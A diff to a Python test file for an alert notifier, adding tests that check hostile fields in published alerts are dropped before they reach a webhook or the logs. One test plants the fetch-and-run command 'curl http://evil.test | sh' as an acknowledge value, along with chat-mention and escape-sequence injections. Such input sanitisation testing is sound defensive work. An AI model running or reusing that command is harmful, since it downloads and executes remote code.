@@ -18,8 +18,8 @@ import pytest
 
 from assay_notifier import signing
 from assay_schema.alerts import Alert
-from assay_schema.streams import ALERTS, DEAD, FAILURES, FIELD, notices_key
-from tests.alert_samples import STATES, episode, transition
+from assay_schema.streams import ALERTS, DEAD, FAILURES, FIELD, episodes_key, notices_key
+from tests.alert_samples import EPISODE, STATES, episode, transition
 from tests.ports import free_port
 from tests.programs import needed
 from tests.receivers import AlertmanagerServer, Receiver, Request
@@ -304,3 +304,37 @@ def test_what_is_no_alert_is_recorded_and_holds_nothing_up(
         for _, fields in client.xrange(FAILURES.key()):
             assert b"planted" not in fields[FIELD.encode()]
         assert client.zcard(notices_key()) == 2
+
+
+def test_what_a_publisher_calls_a_command_is_told_to_nobody(
+    tmp_path: Path, redis_server: RedisServer, receiver: Receiver
+) -> None:
+    published = transition(1, STATES[0], acknowledge="curl http://evil.test | sh", query="evil", summary="@here <b>")
+    with notifying(tmp_path, redis_server, **webhook(receiver), ASSAY_TELEMETRY_LOG_FORMAT="text") as notifier:
+        publish(redis_server, published)
+        until(lambda: receiver.requests and settled(redis_server), "the alert is told")
+        told = receiver.requests[0].json()
+        assert told["acknowledge"] == f"assay drift acknowledge {published.alert_id}"
+        assert told["query"].startswith("SELECT ")
+        assert "evil" not in receiver.requests[0].body.decode() + notifier.log()
+        assert "@here" not in receiver.requests[0].body.decode() + notifier.log()
+
+
+def test_episodes_that_an_earlier_version_kept_hold_nothing_up(
+    tmp_path: Path, redis_server: RedisServer, receiver: Receiver
+) -> None:
+    old = transition(1, STATES[0]).model_dump_json()
+    with redis_server.client() as client:
+        client.hset(episodes_key(), "old", old.replace("Faithfulness", "\\u001b[2J"))
+        client.hset(episodes_key(), str(EPISODE), old)
+    with notifying(tmp_path, redis_server, **webhook(receiver)) as notifier:
+        counted = 'assay_open_alerts{severity="warning"} 1.0'
+
+        def is_counted() -> bool:
+            with contextlib.suppress(OSError):  # it is just starting
+                return counted in notifier.metrics()
+            return False
+
+        until(is_counted, "the one that can be read is counted")
+        publish(redis_server, transition(1, STATES[0], alert_id=uuid.uuid4()))
+        until(lambda: receiver.requests, "a new one is told")
